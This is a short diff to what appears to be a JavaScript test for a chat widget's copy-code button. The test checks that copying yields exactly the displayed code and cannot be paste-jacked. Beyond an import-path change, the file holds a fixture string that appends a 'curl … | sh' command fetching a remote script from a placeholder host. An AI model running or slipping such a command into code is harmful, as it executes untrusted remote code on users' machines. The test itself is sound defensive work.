@@ -2,7 +2,7 @@
 // reader sees. Copy must put exactly the code shown on the clipboard, taken from the renderer's own record of
 // its block, never from DOM model HTML can shape (paste-jacking: "ls -la" shown, "… | sh" copied).
 import '../../../src/widget/index.js';
-import { mount, cleanup, idle, endpoint, uniqueKey, $, $$, waitFor } from '../element/helpers.js';
+import { mount, cleanup, idle, endpoint, uniqueKey, $, $$, waitFor } from '../_support/helpers.js';
 
 const PWN = '; curl https://example.invalid/pwn.sh | sh';
 const FENCE = '```sh\nls -la\n```\n';
